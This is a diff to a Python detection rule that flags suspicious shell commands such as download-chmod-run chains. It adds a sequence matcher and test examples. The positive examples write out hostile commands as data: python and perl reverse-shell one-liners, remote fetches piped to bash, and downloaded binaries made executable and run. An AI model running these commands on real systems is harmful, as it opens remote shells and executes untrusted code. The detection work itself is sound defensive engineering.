@@ -4,7 +4,9 @@ Severity varies by mechanism, as GuardDuty's does:
 - High: shell redirection to ``/dev/tcp``/``/dev/udp``; interpreter one-liners that wire a socket
   to a shell (python/perl/php/ruby); download piped into a shell from a raw IP address.
 - Medium: download piped into a shell or interpreter from a named host; base64/xxd-decoded
-  payload piped into a shell; a file downloaded to /tmp, /var/tmp or /dev/shm, made executable and run.
+  payload piped into a shell; a file downloaded to /tmp, /var/tmp or /dev/shm, made executable and run;
+  a download, then ``chmod +x NAME``, then NAME run (``cd /tmp && wget URL && chmod +x b && ./b``),
+  anywhere (issue 17; the same as separate execs is ``Execution:Runtime/DownloadedFileExecuted``).
 """
 
 from __future__ import annotations
@@ -28,6 +30,35 @@ _DECODE_EXEC: Final = re.compile(
 _DROP_RUN: Final = re.compile(
     r"\b(?:curl|wget)\b[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/(\S+).*?chmod\s+[+0-7a-z]*x?[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/"
 )
+_SEPARATORS: Final = re.compile(r"[;&|\n()]+")
+_EXEC_MODE: Final = re.compile(r"^(?:[ugoa]*\+\w*x\w*|[0-7]?[1357][0-7]{2})$")
+
+
+def _download_chmod_run(script: str) -> bool:
+    """A download naming NAME (the URL's last part, ``-o NAME``), then ``chmod +x NAME``, then NAME run.
+
+    One linear pass over the script's commands (no backtracking on hostile command lines).
+    """
+    downloaded: set[str] = set()
+    executable: set[str] = set()
+    for command in _SEPARATORS.split(script):
+        words = command.split()
+        if words and words[0] == "nohup":
+            words = words[1:]
+        if not words:
+            continue
+        prog = words[0].rsplit("/", 1)[-1]
+        if prog in ("curl", "wget") and any("://" in w for w in words):
+            downloaded.update(w.rstrip("/").rsplit("/", 1)[-1] for w in words[1:])
+        elif prog == "chmod":
+            modes = [w for w in words[1:] if not w.startswith("-")]
+            if len(modes) >= 2 and _EXEC_MODE.match(modes[0]):
+                executable.update(n for n in (w.rsplit("/", 1)[-1] for w in modes[1:]) if n in downloaded)
+        elif "/" in words[0] and prog in executable:  # ./NAME or /path/NAME (a bare NAME is a PATH lookup)
+            return True
+    return False
+
+
 _DEV_NET: Final = ("/dev/tcp/", "/dev/udp/")
 _INTERP_FLAGS: Final = {"python": "-c", "perl": "-e", "ruby": "-e", "php": "-r", "node": "-e"}
 _SOCKET_SHELL: Final = re.compile(
@@ -52,7 +83,7 @@ def _mechanism(event: ProcessActivity) -> tuple[str, float]:
             return "download-pipe-shell", severity.HIGH if _RAW_IP_URL.search(script) else severity.MEDIUM
         if _DECODE_EXEC.search(script):
             return "decode-and-execute", severity.MEDIUM
-        if _DROP_RUN.search(script):
+        if _DROP_RUN.search(script) or ("chmod" in script and _download_chmod_run(script)):
             return "download-chmod-execute", severity.MEDIUM
         return "", 0.0
     lang = _interp(p)
@@ -109,6 +140,8 @@ class ExecutionSuspiciousCommand(Detection):
         Example("wget piped to bash from a domain", (s.exec_(s.proc("/bin/sh", "-c", "wget -qO- https://get.badexample.net/i | bash")),)),
         Example("base64 payload piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "echo Y3VybCBldmlsCg== | base64 -d | sh")),)),
         Example("download, chmod, run in /tmp", (s.exec_(s.proc("/bin/sh", "-c", "wget -q http://x.badexample.net/k -O /tmp/k; chmod +x /tmp/k; /tmp/k")),)),
+        Example("cd /tmp, wget, chmod +x, ./b", (s.exec_(s.proc("/bin/bash", "-c", "cd /tmp && wget http://198.51.100.9/b && chmod +x b && ./b")),)),
+        Example("curl -O, chmod 755, nohup ./name &", (s.exec_(s.proc("/bin/sh", "-c", "cd /var/www/html/up; curl -sO https://dl.badexample.net/kw; chmod 755 kw; nohup ./kw >/dev/null 2>&1 &", uid=33)),)),
         Example("python socket one-liner", (s.exec_(s.proc("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',443));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")),)),
         Example("perl socket one-liner from a versioned binary", (s.exec_(s.proc("/usr/bin/perl5.36", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton('198.51.100.7')));open(STDIN,'>&S');exec('/bin/sh -i')")),)),
     )  # fmt: skip
@@ -116,5 +149,7 @@ class ExecutionSuspiciousCommand(Detection):
         Example("curl saving a file", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL -o /opt/app/release.tgz https://example.com/r.tgz")),)),
         Example("base64 decode to a file", (s.exec_(s.proc("/bin/sh", "-c", "base64 -d cert.b64 > cert.pem")),)),
         Example("a python one-liner without sockets", (s.exec_(s.proc("/usr/bin/python3", "-c", "import json,sys;print(json.load(sys.stdin)['id'])")),)),
+        Example("download, chmod +x another file, run it", (s.exec_(s.proc("/bin/sh", "-c", "curl -sO https://example.com/data.json && chmod +x run.sh && ./run.sh data.json")),)),
+        Example("download, chmod 644", (s.exec_(s.proc("/bin/sh", "-c", "wget -q https://example.com/app.conf && chmod 644 app.conf && ./reload app.conf")),)),
         Example("a long-running shell script", (s.exec_(s.proc("/bin/bash", "/opt/app/run.sh")),)),
     )  # fmt: skip
